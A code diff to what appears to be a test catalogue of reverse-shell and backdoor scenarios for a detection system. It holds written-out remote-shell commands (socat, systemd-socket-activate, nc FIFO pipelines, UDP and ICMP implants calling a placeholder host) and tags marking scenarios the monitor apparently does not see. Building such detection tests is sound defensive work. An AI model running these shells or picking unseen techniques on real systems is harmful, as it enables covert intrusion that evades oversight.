@@ -6,7 +6,7 @@ pipelines with encryption, doubled tools, wrappers that make a terminal. K: door
 connect record. L: patience: minutes between exec, connect and shell, two forks between."""
 
 from attacks import PROGRAM
-from scenarios import Attack
+from scenarios import AT_A_TERMINAL, Attack, CHILD_CONNECTS, NO_RECORD
 
 # Long enough that nothing which waits a minute sees both ends.
 LATE = 65
@@ -163,9 +163,11 @@ ATTACKS = [
            needs=("node",),
            speaks=through("require('child_process').execSync('", "').toString()", ".exit")),
     Attack("loop_guile_ssh", "I", "language", "ssh", "tcp", "guile @D@/s.scm",
-           needs=("guile",), files={"s.scm": GUILE_LOOP}),
+           needs=("guile",), files={"s.scm": GUILE_LOOP},
+           unseen=AT_A_TERMINAL),
     Attack("loop_expect_cron", "I", "language", "cron", "tcp", "expect @D@/e",
-           needs=("expect", "nc.openbsd"), files={"e": EXPECT_LOOP}),
+           needs=("expect", "nc.openbsd"), files={"e": EXPECT_LOOP},
+           unseen=CHILD_CONNECTS),
     Attack("loop_awk_web", "I", "awk", "web", "tcp", FIFO.format("gawk -f @D@/a"),
            needs=("gawk",), files={"a": AWK_SYSTEM}),
     Attack("loop_busybox_awk_cron", "I", "awk", "cron", "two",
@@ -229,9 +231,11 @@ while True:
            "cat <@D@/g | env -i sh 2>&1 | cat >@D@/f", needs=("nc.openbsd",), live=True),
     # ---- K
     Attack("door_datagrams_c_ssh", "K", "binary", "ssh", "udp", "@D@/m @H@ @P@ h &",
-           needs=("implant",), files={"m": "copy:@C@/implant"}, live=True),
+           needs=("implant",), files={"m": "copy:@C@/implant"}, live=True,
+           unseen=NO_RECORD),
     Attack("door_datagrams_python_web", "K", "python", "web", "udp", "python3 @D@/u.py",
-           needs=("python3",), files={"u.py": PYTHON_UNCONNECTED}),
+           needs=("python3",), files={"u.py": PYTHON_UNCONNECTED},
+           unseen=NO_RECORD),
     Attack("door_datagrams_socat_cron", "K", "socat", "cron", "udp",
            "socat UDP-DATAGRAM:@H@:@P@ SYSTEM:'echo up; exec sh'", needs=("socat",), live=True),
     Attack("door_fast_open_c_cron", "K", "binary", "cron", "tcp", "@D@/o @H@ @P@ i",
@@ -254,7 +258,8 @@ while True:
            "systemd-socket-activate -l @V@:@P@ --inetd -a /bin/sh",
            needs=("systemd-socket-activate",)),
     Attack("door_echoes_service", "K", "binary", "service", "icmp", "@D@/n @H@ @P@ n",
-           needs=("implant",), files={"n": "copy:@C@/implant"}, live=True),
+           needs=("implant",), files={"n": "copy:@C@/implant"}, live=True,
+           unseen=NO_RECORD),
     # ---- L
     Attack("late_c_orphan_cron", "L", "binary", "cron", "tcp", f"@D@/y @H@ @P@ o {LATE}",
            needs=("implant",), files={"y": "copy:@C@/implant"}, patience=PATIENCE),
